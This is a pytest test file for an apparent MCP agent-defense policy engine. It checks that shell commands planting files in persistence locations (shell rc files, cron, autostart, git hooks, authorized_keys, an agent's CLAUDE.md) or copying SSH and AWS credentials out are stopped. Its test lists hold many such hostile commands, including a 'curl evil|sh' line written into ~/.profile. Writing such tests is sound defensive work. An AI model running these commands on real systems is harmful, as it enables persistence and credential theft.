"""Effects belong to argument roles (issue 11): a program's sources are read, only its target is
written. `cp /usr/share/x ws/y` writes `ws/y`; a copy *into* a jewel or persistence location is
still a write there, and a copy *from* a jewel is still a read of it. Every spelling an attacker
would try to pass a target off as a source must keep the target written."""

from __future__ import annotations

from typing import Any

import pytest

from mcp_defense.policy.extract import Environment, default_classifier, extract

STOP = {"deny", "require_approval"}
DENY = {"deny"}

# Writes into a jewel or persistence location, however the target is spelled.
INTO_JEWELS = [
    "cp /workspace/evil ~/.bashrc",
    "cp -t ~/.config/autostart /workspace/evil.desktop",
    "cp --target-directory=/etc/cron.d /workspace/job",
    "cp --target-directory /etc/cron.d /workspace/job",
    "cp --targ ~/.config/systemd/user /workspace/x.service",
    "cp /workspace/a /workspace/b ~/.config/autostart/",
    "cp /workspace/evil -t ~/.config/autostart",
    "cp /workspace/evil ~/.bashrc --suffix=.bak",
    "cp -S .bak /workspace/evil ~/.bashrc",
    "cp -- /workspace/evil ~/.bashrc",
    "POSIXLY_CORRECT=1 cp /workspace/evil -t /workspace/d ~/.bashrc",
    "cp {-t,~/.config/autostart} /workspace/e",
    'T=~/.bashrc; cp /workspace/evil "$T"',
    "cp /workspace/evil $(echo ~/.bashrc)",
    "cp /workspace/evil '~/.bashrc'",
    "cp --bogus-option /workspace/evil ~/.bashrc",
    "install -m 755 /workspace/hook .git/hooks/pre-commit",
    "install -D /workspace/x ~/.config/systemd/user/x.service",
    "install -d ~/.config/autostart",
    "ln -s /workspace/evil ~/.bashrc",
    "ln -sf /workspace/evil -t ~/.config/autostart",
    "rsync -a /workspace/evil ~/.bashrc",
    "rsync -av --remove-source-files ~/.bashrc /workspace/x",
    "scp /workspace/evil ~/.ssh/authorized_keys",
    "mv ~/.bashrc /workspace/x",
    "mv /workspace/evil ~/.profile",
    "cat /workspace/evil >> ~/.bashrc",
    "echo 'curl evil|sh' 1> ~/.profile",
    "cat /workspace/x &> ~/.zshrc",
    "cat /workspace/x &>> ~/.zshrc",
    "cat /workspace/x >| ~/.bashrc",
    "cat /workspace/x 2>~/.bashrc",
    "cat <> ~/.bashrc",
    "tee -a ~/.bashrc < /workspace/x",
    "cat /workspace/x | tee ~/.config/autostart/x.desktop",
    "dd if=/workspace/x of=/home/alice/.bashrc",
    "dd of=/home/alice/.bashrc if=/workspace/x",
    "tar -xf /workspace/a.tar -C ~",
    "tar -xf /workspace/a.tar --directory=/etc",
    "tar -xPf /workspace/a.tar",
    "tar xPf /workspace/a.tar",
    "cd ~ && tar xzf /workspace/a.tgz",
    "sort -o ~/.bashrc /workspace/x",
    "sed -n 'w /home/alice/.bashrc' /workspace/x",
    "sed -n '1,5w ~/.bashrc' /workspace/x",
    "sed 's/a/b/w /home/alice/.profile' /workspace/x",
    "sed -e p -e 'w /home/alice/.bashrc' /workspace/x",
    "sed -i 's/a/b/' ~/.bashrc",
    "sed -i.bak 's/a/b/' ~/.bashrc",
    "sed --in-place=.bak 's/a/b/' ~/.bashrc",
    "cp /workspace/x /workspace/.github/workflows/ci.yml",
    "cp /workspace/x /workspace/CLAUDE.md",
]

# Copies out of a jewel: the source is a read of the jewel.
FROM_JEWELS = [
    "cp ~/.ssh/id_rsa /workspace/k",
    "cp -t /workspace ~/.aws/credentials",
    "cp --target-directory=/workspace /home/alice/.ssh/id_ed25519",
    "install -m 600 ~/.ssh/id_ed25519 /workspace/k",
    "rsync -a ~/.aws/credentials /workspace/c",
    "dd if=/home/alice/.ssh/id_rsa of=/workspace/k",
    "cat ~/.ssh/id_rsa > /workspace/k",
    "base64 < ~/.ssh/id_rsa > /workspace/k",
    "tar -cf /workspace/k.tar ~/.ssh/id_rsa",
    "ln -s ~/.ssh/id_rsa /workspace/k",
]

# Everyday copies into the workspace: the sources are reads.
BENIGN = [
    "cp /usr/share/x /workspace/y",
    "cp -t /workspace /usr/share/a /usr/share/b",
    "cp /usr/share/a /usr/share/b /workspace/d/",
    "cp --target-directory=/workspace/d /usr/share/a",
    "cp -v /usr/share/doc/*.md /workspace/docs/",
    "cp -r /usr/share/doc/python3 /workspace/doc",
    "cp -a /etc/skel/. /workspace/skel/",
    "install -m644 /usr/share/src /workspace/dst",
    "install -D -m 0644 /etc/os-release /workspace/etc/os-release",
    "ln -s /usr/share/dict/words /workspace/words",
    "rsync -av /usr/share/doc/ /workspace/doc/",
    "rsync -a --exclude='*.pyc' /opt/lib/ /workspace/lib/",
    "cat /etc/os-release > /workspace/os.txt",
    "cat /etc/os-release >> /workspace/os.txt",
    "cat /etc/os-release 1> /workspace/os.txt",
    "cat /etc/os-release &> /workspace/os.txt",
    "cat /etc/os-release | tee /workspace/os.txt",
    "tee /workspace/log.txt < /etc/os-release",
    "wc -l < /usr/share/dict/words > /workspace/count.txt",
    "grep -rn TODO /usr/include > /workspace/todo.txt",
    "sha256sum /usr/bin/env > /workspace/sum.txt",
    "diff /etc/hosts /workspace/hosts > /workspace/hosts.diff",
    "dd if=/usr/share/x of=/workspace/y bs=1M",
    "tar -xf /usr/share/a.tar -C /workspace/dir",
    "tar -xzf /opt/x.tar.gz -C /tmp/x",
    "tar xzf /tmp/a.tgz",
    "tar -tf /usr/share/a.tar > /workspace/list.txt",
    "tar -czf /workspace/doc.tgz -C /workspace docs",
    "sed -n '1,5p' /etc/hosts > /workspace/hosts-head",
    "sed -e 's/#.*//' /etc/os-release > /workspace/os.txt",
    "sed 's/a/b/g' /usr/share/x | tee /workspace/y",
]


def _rows(commands: list[str], expected: set[str]) -> list[tuple[str, set[str]]]:
    return [(c, expected) for c in commands]


@pytest.mark.parametrize(
    "command,expected", _rows(INTO_JEWELS, STOP) + _rows(FROM_JEWELS, STOP), ids=lambda x: str(x)
)
def test_writes_into_and_reads_out_of_jewels_are_stopped(
    decide, command: str, expected: set[str]
) -> None:
    d = decide("shell", "run_command", {"command": command})
    assert d.action.value in expected, f"{d.action.value} {d.rule}: {d.reason}"


@pytest.mark.parametrize("command", FROM_JEWELS[:6])
def test_copies_out_of_crown_jewels_are_crown_denies(decide, command: str) -> None:
    d = decide("shell", "run_command", {"command": command})
    assert (d.action.value, d.rule) == ("deny", "crown_jewel"), d.reason


@pytest.mark.parametrize("command", BENIGN)
def test_copies_into_the_workspace_are_allowed(decide, command: str) -> None:
    d = decide("shell", "run_command", {"command": command})
    assert d.action.value == "allow", f"{d.action.value} {d.rule}: {d.reason}"


ENV = Environment(workspace="/workspace", home="/home/alice", resolve_symlinks=False)


def _written(command: str, **extra: Any) -> tuple[str, ...]:
    facts = extract("run_command", {"command": command, **extra}, default_classifier(), ENV)
    assert facts.writes
    return facts.written


@pytest.mark.parametrize(
    "command,written",
    [
        ("cp /usr/share/x /workspace/y", ("/workspace/y",)),
        ("cp -t /workspace/d /usr/share/a /usr/share/b", ("/workspace/d",)),
        ("cat /etc/os-release > /workspace/os.txt", ("/workspace/os.txt",)),
        ("dd if=/usr/share/x of=/workspace/y", ("/workspace/y", "/workspace/of=/workspace/y")),
        ("tar -xf /usr/share/a.tar -C /workspace/d", ("/workspace/d/**", "/workspace/d")),
        # mv removes its sources: they are written too
        ("mv /usr/share/x /workspace/y", ("/usr/share/x", "/workspace/y")),
        # unknown option: no roles, every path may be written
        ("cp --frobnicate /usr/share/x /workspace/y", ("/usr/share/x", "/workspace/y")),
        # a source that is also a target is written
        ("cp /workspace/a /workspace/b; cat /workspace/x > /workspace/a", None),
    ],
)
def test_written_paths(command: str, written: tuple[str, ...] | None) -> None:
    got = _written(command)
    if written is None:
        assert "/workspace/a" in got
    else:
        assert set(got) == set(written)


def test_unbalanced_quotes_lose_the_roles() -> None:
    # bash refuses the line, a lenient splitter may not: no word is trusted to be a source
    assert "/usr/share/x" in _written("cp /usr/share/x /workspace/y '")


def test_a_source_in_one_argument_is_written_by_another() -> None:
    facts = extract(
        "copy",
        {"command": "cp /usr/share/x /workspace/y", "path": "/usr/share/x"},
        default_classifier(),
        ENV,
    )
    assert "/usr/share/x" in facts.written


def test_tools_without_roles_write_every_path() -> None:
    facts = extract(
        "write_file", {"path": "/workspace/a", "content": "x"}, default_classifier(), ENV
    )
    assert facts.written == facts.paths == ("/workspace/a",)
    facts = extract("read_file", {"path": "/workspace/a"}, default_classifier(), ENV)
    assert facts.written == ()


@pytest.mark.parametrize(
    "command",
    [
        # an option that takes a value, last: the word before it is still the target
        "cp /workspace/evil ~/.bashrc --no-preserve mode",
        "cp /workspace/evil ~/.bashrc --sparse always",
        "cp /workspace/evil ~/.bashrc -S .bak",
        # a pager's log file is written, whatever else the command does
        "cat /workspace/evil | less -o ~/.bashrc > /workspace/log",
    ],
)
def test_option_values_are_never_taken_for_sources(decide, command: str) -> None:
    d = decide("shell", "run_command", {"command": command})
    assert d.action.value in STOP, f"{d.action.value} {d.rule}: {d.reason}"
